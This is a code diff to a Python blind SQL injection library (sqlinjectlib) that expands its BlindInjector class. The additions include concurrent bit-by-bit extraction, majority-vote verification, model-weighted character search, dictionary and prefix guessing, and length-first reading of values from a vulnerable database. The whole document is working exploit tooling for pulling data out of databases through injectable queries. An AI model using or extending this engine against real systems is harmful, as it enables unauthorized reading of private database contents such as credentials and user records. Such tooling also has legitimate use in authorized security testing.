@@ -1,11 +1,28 @@
 from __future__ import annotations
-from asyncio import gather
+from concurrent.futures import Executor
+from sqlinjectlib._metrics import Hook, phase
 from typing import AsyncGenerator
+from collections.abc import Awaitable, Callable, Sequence
+from statistics import mean
 from sqlinjectlib._sqlinjectlib import InjectorFunction
 from sqlinjectlib._unioninject import UnionInjector
 from sqlinjectlib._databases import DatabaseType, MySQL
+from sqlinjectlib._cache import Cache
+from sqlinjectlib._encodings import Encoding
+from sqlinjectlib._models import CharacterModel
+from sqlinjectlib._packing import ESCAPE, PACKED, SEPARATOR, boundary, escape, packed
+from sqlinjectlib._scheduler import MAX_IN_FLIGHT, Scheduler, limit
 from sqlinjectlib._typedql import SQL
-from sqlinjectlib._utils import wrap
+from sqlinjectlib._utils import RECENT, wrap, single_flight, await_all
+
+VERIFY_ATTEMPTS = 3
+"""The number of times a value is extracted again before giving up"""
+UNLIKELY = 0.001
+"""The weight of the character codes missing from the prediction of a model"""
+IN_LIMIT = 16
+"""The most values compared in a single question"""
+LENGTH_BITS = 6
+"""The bits of a length read with each round of questions, shorter than a byte because most strings are short"""
 
 
 class BlindInjector(UnionInjector):
@@ -20,43 +37,391 @@ class BlindInjector(UnionInjector):
         /,
         *,
         concurrent: bool = False,
+        window: int = 1,
+        length_first: bool = False,
+        prefer_false: bool = False,
+        verify: bool = False,
+        votes: int = 3,
+        model: CharacterModel | None = None,
+        dictionary: Sequence[str] = (),
+        prefixes: Sequence[str] = (),
         database_type: DatabaseType = MySQL(),
+        scheduler: Scheduler | None = None,
+        max_in_flight: int | None = MAX_IN_FLIGHT,
+        executor: Executor | None = None,
+        hooks: Sequence[Hook] = (),
+        cache: Cache | None = None,
+        pack: bool = False,
+        encoding: Encoding | None = None,
     ):
         """
         - injector: function that given a boolean query returns the result
         - concurrent: if the function can be called multiple times concurrently to speed up
+        - window: the number of characters to extract at the same time when the length is unknown,
+            useful only if concurrent
+        - length_first: if the length of a string is extracted before its characters,
+            so that all the characters can be extracted at the same time,
+            the length is read LENGTH_BITS at a time, so a string shorter than 63 characters
+            needs 7 questions for its length instead of 8 for its terminator
+        - prefer_false: if every question is asked so that the most likely answer is false,
+            the likelihood of each bit is learned from the characters already extracted,
+            useful if the injector is slower when the answer is true
+        - verify: if every extracted value is confirmed with an equality question,
+            on disagreement the value is extracted again asking every question more times,
+            a value found in the dictionary or the prefixes is confirmed too, and extracted if not confirmed
+        - votes: the number of times a question is asked to confirm a value or when a value is extracted again,
+            the majority of the answers is used, if not concurrent the question stops being asked
+            as soon as an answer has the majority
+        - model: the model used to predict the characters, every question splits the likelihood
+            of the remaining characters in half, so that likely characters need fewer questions,
+            with a model the characters are extracted window at a time even if the length is known
+        - dictionary: the likely values, before extracting a string it is compared with them,
+            IN_LIMIT at a time, and returned without extracting its characters if found,
+            they are compared before the string is encoded, and in a packed row with every column
+            whose start is reached, if encoded only with the columns at the start of the row
+        - prefixes: the likely beginnings of the strings, they are compared like the dictionary,
+            and only the rest of the string is extracted if one is found, the longest if many are found
         - database_type: the type of the database you are injecting into
+        - scheduler: the scheduler that limits the requests sent with the injector, it can be shared
+        - max_in_flight: the most requests sent at the same time if concurrent and no scheduler is given,
+            None for no limit
+        - executor: the executor that runs the injector if it is not a coroutine function,
+            so that blocking injectors can run concurrently, None to run it in the event loop
+        - hooks: the functions called with the event of every call of the injector, like Metrics or Trace
+        - cache: the cache that keeps the results between sessions,
+            with it the recent results are also kept in memory
+        - pack: if all the columns of a row are read as a single value instead of a column at a time,
+            the columns are separated by a single character so that a row costs no more questions than its columns
+        - encoding: the encoding used to transport the values, None to extract them as text
+        - raises ValueError: if the window is not positive or votes is not a positive odd number
         """
+        if window < 1:
+            raise ValueError(f"The window must be positive, found '{window}'")
+        if votes < 1 or votes % 2 == 0:
+            raise ValueError(
+                f"The votes must be a positive odd number, found '{votes}'"
+            )
         self.__concurrent = concurrent
-        self.__injector = wrap(injector)
-        super().__init__(self.__call, database_type=database_type)
+        self.__window = window
+        self.__length_first = length_first
+        self.__prefer_false = prefer_false
+        self.__verify = verify
+        self.__votes = votes
+        self.__cache = cache
+        self.__model = model
+        self.__encoding = encoding
+        self.__dictionary = list(dictionary)
+        self.__prefixes = sorted(prefixes, key=len, reverse=True)
+        self.__ones = [1] * 8
+        self.__chars = 2
+        self.__raw_injector = wrap(
+            injector,
+            limit(scheduler, concurrent, max_in_flight),
+            executor,
+            hooks,
+            "bit",
+            1,
+        )
+        self.__injector = self.__raw_injector
+        if cache is not None:
+            self.__injector = cache.wrap(self.__injector, "bit")
+        self.__injector = single_flight(
+            self.__injector, RECENT if cache is not None else 0
+        )
+        super().__init__(
+            self.__call,
+            concurrent=concurrent,
+            database_type=database_type,
+            max_in_flight=None,
+            cache=cache,
+            pack=pack,
+            separated=True,
+        )
+
+    async def __ask(
+        self, condition: SQL[bool], probability: float, votes: int = 1
+    ) -> bool:
+        negate = self.__prefer_false and probability > 0.5
+        question = ~condition if negate else condition
+        if votes == 1:
+            answer = await self.__injector(question)
+        else:
+            if self.__concurrent:
+                answers = await await_all(
+                    [self.__raw_injector(question) for _ in range(votes)], True
+                )
+            else:
+                answers = []
+                while max(sum(answers), len(answers) - sum(answers)) <= votes // 2:
+                    answers.append(await self.__raw_injector(question))
+            answer = 2 * sum(answers) > len(answers)
+            if self.__cache is not None:
+                self.__cache.set("bit", str(question), answer)
+        return answer != negate
 
-    async def __binary_search(self, query: SQL[str], char_index: int) -> int:
+    async def __verified(
+        self, extract: Callable[[int], Awaitable[int]], expression: SQL[int]
+    ) -> int:
+        value = await extract(1)
+        if not self.__verify:
+            return value
+        for _ in range(VERIFY_ATTEMPTS):
+            with phase("verify"):
+                verified = await self.__ask(
+                    expression @ SQL.int(value), 1, self.__votes
+                )
+            if verified:
+                return value
+            value = await extract(self.__votes)
+        raise ValueError(f"Unable to read a consistent value for '{expression}'")
+
+    async def __char(self, query: SQL[str], char_index: int, prefix: str) -> int:
+        return await self.__verified(
+            lambda votes: self.__binary_search(query, char_index, prefix, votes),
+            char_query(self.database_type, query, char_index),
+        )
+
+    async def __binary_search(
+        self, query: SQL[str], char_index: int, prefix: str, votes: int
+    ) -> int:
+        if self.__model is not None:
+            weights = dict(self.__model.weights(prefix, char_index))
+            if weights:
+                average = mean(weights.values())
+                if self.__length_first:
+                    weights.pop(0, None)
+                else:
+                    weights.setdefault(0, average)
+                if PACKED.get():
+                    weights.setdefault(ord(SEPARATOR), average)
+                    weights.setdefault(ord(ESCAPE), average)
+                return await self.__weighted_search(
+                    char_query(self.database_type, query, char_index), weights, votes
+                )
         concurrent = [
-            self.__injector(
-                binary_search_query(self.database_type, query, char_index, i)
+            self.__ask(
+                binary_search_query(self.database_type, query, char_index, i),
+                self.__ones[i] / self.__chars,
+                votes,
             )
             for i in range(8)
         ]
-        bits = (
-            await gather(*concurrent)
-            if self.__concurrent
-            else [await c for c in concurrent]
-        )
+        bits = await await_all(concurrent, self.__concurrent)
         result = 0
         for i, bit in enumerate(bits):
             result += bit << i
+        if result > 1:
+            self.__chars += 1
+            for i, bit in enumerate(bits):
+                self.__ones[i] += bit
         return result
 
+    async def __weighted_search(
+        self, query: SQL[int], weights: dict[int, float], votes: int
+    ) -> int:
+        candidates = {code: weights.get(code, UNLIKELY) for code in range(256)}
+        while len(candidates) > 1:
+            total = sum(candidates.values())
+            codes = sorted(candidates)
+            split, split_mass = codes[1], candidates[codes[0]]
+            below = 0.0
+            for previous, code in zip(codes, codes[1:]):
+                below += candidates[previous]
+                if abs(2 * below - total) < abs(2 * split_mass - total):
+                    split, split_mass = code, below
+            likely: list[int] = []
+            likely_mass = 0.0
+            for code in sorted(candidates, key=candidates.__getitem__, reverse=True):
+                if 2 * likely_mass >= total or len(likely) == IN_LIMIT:
+                    break
+                likely.append(code)
+                likely_mass += candidates[code]
+            if abs(2 * likely_mass - total) < abs(2 * split_mass - total):
+                question = SQL.isin(query, [SQL.int(code) for code in likely])
+                chosen, mass = set(likely), likely_mass
+            else:
+                question = query < SQL.int(split)
+                chosen, mass = {code for code in codes if code < split}, split_mass
+            answer = await self.__ask(question, mass / total, votes)
+            candidates = {
+                code: weight
+                for code, weight in candidates.items()
+                if (code in chosen) == answer
+            }
+        return next(iter(candidates))
+
+    async def integer(self, query: SQL[int], /) -> int:
+        sign = self.database_type.if_else(query < SQL.int(0), SQL.int(1), SQL.int(0))
+        negative, result = await await_all(
+            [
+                self.__verified(
+                    lambda votes: self.__ask(sign @ SQL.int(1), 0, votes), sign
+                ),
+                self.__integer(SQL.coalesce(SQL.abs(query) + SQL.int(1), SQL.int(0))),
+            ],
+            self.__concurrent,
+        )
+        if result == 0:
+            raise ValueError(f"Error getting an integer, found null, '{query}'")
+        return -(result - 1) if negative else result - 1
+
+    async def __integer(self, query: SQL[int], width: int = 8) -> int:
+        return await self.__verified(
+            lambda votes: self.__binary_search_int(query, width, votes), query
+        )
+
+    async def __binary_search_int(self, query: SQL[int], width: int, votes: int) -> int:
+        result = 0
+        bit_index = 0
+        while True:
+            concurrent = [
+                self.__ask(binary_search_int_query(query, bit_index + i), 0.5, votes)
+                for i in range(width)
+            ]
+            concurrent.append(
+                self.__ask((query >> SQL.int(bit_index + width)) @ SQL.int(0), 1, votes)
+            )
+            *bits, end = await await_all(concurrent, self.__concurrent)
+            for i, bit in enumerate(bits):
+                result += bit << (bit_index + i)
+            if end:
+                return result
+            bit_index += width
+
+    async def __first(
+        self, candidates: list[str], question: Callable[[list[str]], SQL[bool]]
+    ) -> str | None:
+        batches = [
+            candidates[i : i + IN_LIMIT] for i in range(0, len(candidates), IN_LIMIT)
+        ]
+        answers = await await_all(
+            [self.__ask(question(batch), 0.5) for batch in batches], self.__concurrent
+        )
+        for batch, answer in zip(batches, answers):
+            if not answer:
+                continue
+            while len(batch) > 1:
+                half = batch[: len(batch) // 2]
+                batch = (
+                    half
+                    if await self.__ask(question(half), 0.5)
+                    else batch[len(half) :]
+                )
+            if self.__verify:
+                with phase("verify"):
+                    if not await self.__ask(question(batch), 1, self.__votes):
+                        return None
+            return batch[0]
+        return None
+
     async def __call(self, query: SQL[str]) -> str | None:
+        if self.__encoding is None:
+            return await self.__text(query, PACKED.get())
+        result, complete = await self.__shortcut(query, "", PACKED.get())
+        if complete:
+            return result
+        if result:
+            query = SQL.substr(query, len(result))
+        with packed(0):
+            encoded = await self.__text(
+                self.__encoding.encode(self.database_type, query), None
+            )
+        if encoded is None:
+            return result or None
+        return result + self.__encoding.text(encoded)
+
+    async def __text(self, query: SQL[str], columns: int | None) -> str | None:
+        if self.__length_first:
+            result = await self.__by_length(query, columns)
+        else:
+            result = await self.__by_terminator(query, columns)
+        if result is not None and self.__model is not None:
+            self.__model.update(result)
+        return result
+
+    async def __shortcut(
+        self, query: SQL[str], result: str, columns: int | None
+    ) -> tuple[str, bool]:
+        if columns is None:
+            return result, False
+        frame = escape if columns > 1 else str
+        columns = max(columns, 1)
+        while self.__dictionary or self.__prefixes:
+            found_columns = boundary(result) if columns > 1 else None if result else 0
+            if found_columns is None or found_columns == columns:
+                break
+            last = found_columns == columns - 1
+            if self.__dictionary:
+                with phase("dictionary"):
+                    found = await self.__first(
+                        [
+                            result + frame(value) + ("" if last else SEPARATOR)
+                            for value in self.__dictionary
+                        ],
+                        lambda values: (dictionary_query if last else prefix_query)(
+                            self.database_type, query, values
+                        ),
+                    )
+                if found is not None and last:
+                    return found, True
+                if found is not None:
+                    result = found
+                    continue
+            if self.__prefixes:
+                with phase("prefix"):
+                    found = await self.__first(
+                        [result + frame(prefix) for prefix in self.__prefixes],
+                        lambda values: prefix_query(self.database_type, query, values),
+                    )
+                result = found or result
+            break
+        return result, False
+
+    async def __by_length(self, query: SQL[str], columns: int | None) -> str | None:
+        result, complete = await self.__shortcut(query, "", columns)
+        if complete:
+            return result
+        with phase("length"):
+            length = await self.__integer(
+                length_query(self.database_type, query), LENGTH_BITS
+            )
+        if length == 0:
+            return None
+        length -= 1
+        window = length if self.__model is None else self.__window
+        while len(result) < length:
+            chars = await await_all(
+                [
+                    self.__char(query, i, result)
+                    for i in range(len(result), min(len(result) + window, length))
+                ],
+                self.__concurrent,
+            )
+            result += "".join(chr(char) for char in chars)
+            result, complete = await self.__shortcut(query, result, columns)
+            if complete:
+                return result
+        return result
+
+    async def __by_terminator(self, query: SQL[str], columns: int | None) -> str | None:
         result = ""
         while True:
-            char = await self.__binary_search(query, len(result))
-            if char == 0:
+            result, complete = await self.__shortcut(query, result, columns)
+            if complete:
                 return result
-            if char == 1:
-                return None if not result else result
-            result += chr(char)
+            chars = await await_all(
+                [
+                    self.__char(query, len(result) + i, result)
+                    for i in range(self.__window)
+                ],
+                self.__concurrent,
+            )
+            for char in chars:
+                if char == 0:
+                    return result
+                if char == 1:
+                    return None if not result else result
+                result += chr(char)
 
     async def test(self) -> AsyncGenerator[tuple[str, bool], None]:
         yield ("true", await self.__injector(SQL.bool(True)))
@@ -75,14 +440,68 @@ class BlindInjector(UnionInjector):
             ),
         )
         yield ("char at", await self.__injector(SQL.str("lol")[0] @ SQL.char("l")))
+        yield (
+            "shift",
+            await self.__injector((SQL.int(4) >> SQL.int(1)) @ SQL.int(2)),
+        )
+        yield ("not", await self.__injector(~SQL.bool(False)))
+        yield ("<", await self.__injector(SQL.int(1) < SQL.int(2)))
+        yield ("in", await self.__injector(SQL.isin(SQL.int(1), [SQL.int(1)])))
+        yield ("like", await self.__injector(SQL.like(SQL.str("lol"), "lo%")))
+        yield (
+            "hex",
+            await self.__injector(
+                self.database_type.hex(SQL.str("lol")) @ SQL.str("6C6F6C")
+            ),
+        )
+        yield (
+            "length",
+            await self.__injector(
+                self.database_type.length(SQL.str("lol")) @ SQL.int(3)
+            ),
+        )
         async for elem in super().test():
             yield elem
 
 
+def char_query(database: DatabaseType, query: SQL[str], char_index: int) -> SQL[int]:
+    """The ascii code of the character, zero after the end and one if the string is null"""
+    return SQL.coalesce(database.ascii(query[char_index]), SQL.int(1))
+
+
 def binary_search_query(
     database: DatabaseType, query: SQL[str], char_index: int, bit_index: int
 ) -> SQL[bool]:
-    mask = 1 << bit_index
-    return (
-        SQL.coalesce(database.ascii(query[char_index]), SQL.int(1)) & SQL.int(mask)
-    ) @ SQL.int(mask)
+    return binary_search_int_query(char_query(database, query, char_index), bit_index)
+
+
+def binary_search_int_query(query: SQL[int], bit_index: int) -> SQL[bool]:
+    mask = SQL.int(1 << bit_index)
+    return (query & mask) @ mask
+
+
+def length_query(database: DatabaseType, query: SQL[str]) -> SQL[int]:
+    """The length of the string plus one, zero if the string is null"""
+    return SQL.coalesce(database.length(query) + SQL.int(1), SQL.int(0))
+
+
+def hex_digits(value: str) -> str:
+    """The hexadecimal representation of the utf-8 bytes of a string, as returned by DatabaseType.hex"""
+    return value.encode().hex().upper()
+
+
+def dictionary_query(
+    database: DatabaseType, query: SQL[str], values: Sequence[str]
+) -> SQL[bool]:
+    """True if the string is one of the values, comparing the bytes so that the collation is ignored"""
+    return SQL.isin(
+        database.hex(query), [SQL.str(hex_digits(value)) for value in values]
+    )
+
+
+def prefix_query(
+    database: DatabaseType, query: SQL[str], prefixes: Sequence[str]
+) -> SQL[bool]:
+    """True if the string starts with one of the prefixes, comparing the bytes so that the collation is ignored"""
+    encoded = database.hex(query)
+    return SQL.any([SQL.like(encoded, f"{hex_digits(prefix)}%") for prefix in prefixes])